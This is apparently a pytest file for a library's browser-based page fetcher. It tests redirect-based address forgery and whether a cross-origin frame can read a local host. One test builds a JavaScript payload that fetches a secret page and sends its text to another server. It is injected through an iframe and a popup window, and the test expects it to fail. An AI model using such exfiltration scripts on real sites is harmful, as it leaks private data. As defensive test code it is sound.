"""Pages whose scripts would have their words taken for another's, or read what another host keeps."""

import shutil
from pathlib import Path
from typing import Any

import pytest

from library import LibrarySettings, open_library
from library.evidence import Source
from library.web import guarded_transport
from library.web.fetch_settings import FetchSettings
from tests.library.web.test_page_renderer import TEXT, other

__all__ = ["other"]
pytestmark = [
    pytest.mark.loopback,
    pytest.mark.browser,
    pytest.mark.skipif(shutil.which("chromium") is None, reason="Chromium is not installed"),
]
OTHER_PATH = "history.replaceState(0, '', '/article')"
"""As far as a page may choose its address: within its own site."""


async def read(url: str, home: Path, **fetch: Any) -> Source:
    chosen = LibrarySettings(
        fetch=FetchSettings(browser=True, robots=False, pause=0, cache=False, rest_after=50, **fetch)
    )
    async with await open_library(chosen, [], ["web"], offline=False, home=home, environment={}) as library:
        return await library.read(url)


async def test_who_is_sent_on_by_another_site_speaks_under_the_own_address(website, other, tmp_path):
    """`other` sends whoever asks on to where they want to go, as many sites do."""
    website.add("/forged", f"<!doctype html><title>Merrow</title><p>{TEXT}</p><script>{OTHER_PATH}</script>")
    other.redirect("/out", f"{website.url}/forged?a=1&amp;b=2")
    url = website.add("/app", f"<!doctype html><script>location = '{other.url}/out'</script>")
    source = await read(url, tmp_path, allow=(website.host, other.host))
    assert TEXT.strip() in source.text
    assert source.url == f"{website.url}/article"


WAYS = {
    "itself": "TAKES",
    "a frame in it": """const inner = document.createElement('iframe')
        inner.srcdoc = "<script>TAKES</" + "script>"; document.body.append(inner)""",
    "a window": """const opened = window.open('about:blank')
        const script = opened.document.createElement('script')
        script.textContent = "TAKES"; opened.document.body.append(script)""",
}


@pytest.mark.parametrize("way", WAYS)
async def test_a_stranger_s_frame_reads_nothing_of_a_host_that_was_opened(
    website, other, tmp_path, monkeypatch, way
):
    """The page is of an opened host; the frame in it, of one of the web, which is on this machine here."""
    monkeypatch.setattr(guarded_transport, "refusal", lambda _: None)
    website.add("/secret", "The plan of the harbour")
    takes = f"fetch('{website.url}/secret').then(told => told.text())"
    takes += f".then(said => fetch('{other.url}/taken?' + said))"
    script = f"fetch('/begun'); {WAYS[way].replace('TAKES', takes)}"
    other.add("/frame", f"<!doctype html><body><script>{script}</script>")
    words = "The notice board of the harbour. " * 30
    shows = f"const frame = document.createElement('iframe'); frame.src = '{other.url}/frame'"
    url = website.add(
        "/", f"<!doctype html><body><script>{shows}; document.body.append(frame, '{words}')</script>"
    )
    source = await read(url, tmp_path, allow=(website.host,), ports=(80, 443, other.port))
    assert "notice board" in source.text
    assert other.paths == ["/frame", "/begun"]
    assert website.paths == ["/"]
